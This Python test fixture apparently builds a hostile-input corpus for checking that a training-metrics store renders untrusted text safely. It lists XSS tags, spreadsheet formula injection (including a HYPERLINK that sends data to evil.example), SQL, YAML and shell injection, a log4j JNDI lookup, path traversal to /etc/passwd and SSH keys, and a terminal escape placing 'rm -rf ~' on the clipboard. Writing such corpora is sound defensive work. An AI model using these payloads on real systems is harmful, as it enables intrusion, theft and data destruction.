"""What somebody may have written into a store that we open: data to us, and each an attempt at something else."""

from __future__ import annotations

from pathlib import Path
from typing import NamedTuple

import numpy as np
from judged import record_judged
from recorded import histogram_of, record_example_run

from torchglass.store import (
    ArtifactBlock,
    Batch,
    Fact,
    HistogramBlock,
    ProfilerRow,
    ProfilerWindow,
    RowBlock,
    Run,
    Store,
)

FOREIGN = "evil.example"  # every address below leads there: RFC 2606 keeps it from ever existing
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"

SCRIPTS = {
    "script tag": "<script>alert(1)</script>",
    "script end": "</script><script>alert(2)</script>",
    "comment": "--><script>alert(3)</script><!--",
    "img onerror": "<img src=x onerror=alert(4)>",
    "svg onload": "<svg/onload=alert(5)>",
    "iframe": f"<iframe src='https://{FOREIGN}/'></iframe>",
    "remote picture": f"<img src='https://{FOREIGN}/p.png'>",
    "attribute end": '" onmouseover="alert(6)" autofocus onfocus="alert(7)',
    "style end": "</style><style>@import 'https://evil.example/x.css';</style>",
    "template": "{{7*7}} {% raw %} ${7*7} #{7*7}",
    "entities": "&lt;script&gt;alert(8)&lt;/script&gt; &#x3c;b&#x3e; &amp;amp;",
    "javascript link": "javascript:alert(9)",
    "data link": "data:text/html,<script>alert(10)</script>",
}
MARKDOWN = {
    "link": f"[press](https://{FOREIGN}/) [js](javascript:alert(11)) <https://{FOREIGN}/>",
    "picture": f"![p](https://{FOREIGN}/p.png) ![p][1]\n\n[1]: https://{FOREIGN}/q.png",
    "bare address": f"https://{FOREIGN}/ www.{FOREIGN} me@{FOREIGN} ftp://{FOREIGN} mailto:me@{FOREIGN}",
    "directive": ":material/home: :red[red] :rainbow[x] :streamlit:",
    "formula": rf"$\href{{https://{FOREIGN}}}{{x}}$ $$\includegraphics{{x}}$$",
    "layout": "# heading\n- list\n> quote\n\n```\ncode\n```\n| a | b |\n|---|---|\n***",
}
PLOTLY = {
    "link": f'<a href="https://{FOREIGN}/" target="_self">press</a>',
    "script link": '<a href="javascript:alert(12)">press</a>',
    "markup": "<b>bold</b><br><i>i</i><sup>2</sup><span style='font-size:200px'>huge</span>",
    "template": "%{x} %{customdata[0]} %{text}<extra></extra>",
}
TERMINAL = {
    "colour": "\x1b[31mred\x1b[0m",
    "title": "\x1b]0;owned\x07",
    "link": f"\x1b]8;;https://{FOREIGN}/\x1b\\press\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "cursor": "\x1b[2J\x1b[1;1H\x1b[1A\x1b[2K",
    "one byte": "\x9b31m\x9d0;owned\x9c\x90q\x9c",
    "overwritten": "fine\r\x1b[2Kfailed",
    "backspaces": "ab\x08\x08cd\x7f",
    "bell": "\x07\x05\x0e\x0f",
    "tmux": "\x1bPtmux;\x1b\x1b]52;c;eA==\x07\x1b\\",
}
UNICODE = {
    "bidi": f"a\u202eb{BIDI}c",
    "zero width": "zero\u200bwidth\u200c\u200d\u2060\ufeffend",
    "separators": "line\u2028paragraph\u2029next\u0085line",
    "null": "before\x00after",
    "surrogate": "half\ud800 a pair \udfff",
    "private": "\ue000\U000f0000\ufffe\uffff",
    "tags": "\U000e0001\U000e0041",
    "combining": "Z" + "\u0301" * 60,
    "long word": "W" * 3000,
    "arabic": "مرحبا بالعالم",
    "chinese": "训练 一 号",
    "empty look": "\u3164\u115f\u200b",
}
PATHS = {
    "up": "../../../../etc/passwd",
    "absolute": "/etc/passwd",
    "home": "~/.ssh/authorized_keys",
    "windows up": "..\\..\\windows\\win.ini",
    "drive": "C:\\windows\\win.ini",
    "share": "\\\\evil.example\\share\\x",
    "device": "CON",
    "device with ending": "nul.csv",
    "dots": "...",
    "stream": "name.html:stream",
    "null in name": "run\x00.html",
    "option": "--help",
    "encoded": "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
}
FORMULAS = {
    "link": f'=HYPERLINK("https://{FOREIGN}/?"&A1,"press")',
    "command": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "line": "\n=1+1",
    "full width": "＝1+1",
    "quoted": '"=1+1',
    "apostrophe": "'=1+1",
    "separators": 'a,"b";=1+1\tc\r\nd',
}
LANGUAGES = {
    "sql": "'); DROP TABLE runs; --",
    "sql quotes": "\"'`%_\\",
    "json": '{"name": {"$gt": ""}, "__proto__": {"polluted": 1}}',
    "prototype": "__proto__",
    "constructor": "constructor",
    "yaml": "!!python/object/apply:os.system ['true']",
    "shell": "$(touch owned) `touch owned` ; touch owned | touch owned && touch owned",
    "format": "{0.__class__} %s %n {name!r} {",
    "log4j": "${jndi:ldap://evil.example/a}",
    "number look": "NaN",
    "none": "None",
}
KINDS = {
    "scripts": SCRIPTS,
    "markdown": MARKDOWN,
    "plotly": PLOTLY,
    "terminal": TERMINAL,
    "unicode": UNICODE,
    "paths": PATHS,
    "formulas": FORMULAS,
    "languages": LANGUAGES,
}
CORPUS = {f"{kind}: {name}": text for kind, texts in KINDS.items() for name, text in texts.items()}
MEGABYTE = "<b onclick=alert(0)>" * 50_000
# Every kind in one text: what is dangerous at the beginning of a text is in the corpus alone.
ALL_AT_ONCE = " ".join(text for kind, texts in KINDS.items() if kind != "unicode" for text in texts.values())


class Recorded(NamedTuple):
    """Where a hostile store is, and the uids of its two runs with records."""

    path: Path
    first: str
    second: str


def storable(text: str) -> str:
    """What a store may hold of a text: no database takes half of a surrogate pair, nor PostgreSQL a NUL."""
    return text.encode(errors="replace").decode().replace("\x00", "\ufffd")


def record_hostile_run(store: Store, name: str, texts: list[str], status: str = "failed") -> Run:
    """A run called `name` in which every text is one of `texts`, in turn: settings, tags, note, keys, units, kernels,
    class names, layers, facts and the error."""
    said = [storable(text) for text in texts]
    at = iter(range(10**6))

    def word() -> str:
        return said[next(at) % len(said)]

    example = record_example_run(store, f"{storable(name)[:80]} example", steps=20)
    loss = next(series for series in store.series_of(example.id) if series.key == "loss")
    points = store.points(loss.id)
    columns = (points.steps, points.times, points.values)
    run = store.start_run(storable(name), {**{text: text for text in said}, "url": word()}, host=word(), pid=1)
    picture = store.artifacts(example.id, kind="samples")[0]
    samples = {"class_names": [word() for _ in range(10)], "dataset": word(), "model": word()}
    kernels = tuple(ProfilerRow("kernel", text, 1, 9.0, 9.0) for text in said)
    operators = tuple(ProfilerRow("operator", text, 1, 9.0, 9.0) for text in said[:5])
    store.write(
        run.id,
        0,
        Batch(
            rows=[
                *(RowBlock.of_series(f"{text}/loss", "scalar", word(), *columns) for text in said),
                *(RowBlock.of_series(f"layers/{text}/gradient_norm", "layer", word(), *columns) for text in said[:9]),
                RowBlock.of_series(f"phase/{word()}", "phase", word(), *columns),
                RowBlock.of_series(f"gpu0/{word()}", "device", word(), *columns),
                RowBlock.of_series(f"memory/{word()}", "memory", word(), *columns),
            ],
            histograms=[HistogramBlock(text, histogram_of(np.ones(3), 1, float(points.times[0]))) for text in said[:9]],
            windows=[
                ProfilerWindow(
                    10, float(points.times[0]), 1, 1.0, {"note": word(), "device": word()}, kernels + operators
                )
            ],
            facts=[
                Fact(
                    0, "devices/gpu", {"gpus": [{"name": word()}], "reason": word(), "missing": {word(): word()}}, 0.0
                ),
                Fact(0, "devices/host", {"name": word(), "cpu_count": word(), "memory_total_bytes": word()}, 0.0),
                Fact(0, "phases", {"clock": "host", "note": word()}, 0.0),
                Fact(0, "environment", {word(): word()}, 0.0),
                *(Fact(0, f"warnings/{place}", text, 0.0) for place, text in enumerate(said[:9])),
            ],
            artifacts=[ArtifactBlock("samples", "test", 1, 0.0, samples, store.arrays(picture.id))],
        ),
    )
    record_judged(store, run.id, names=[word() for _ in range(3)], model=word())
    store.tag(run.id, add=said[:9])
    store.annotate(run.id, word())
    store.end_run(run.id, "failed" if status == "failed" else "finished", word())
    return store.run(run.id)
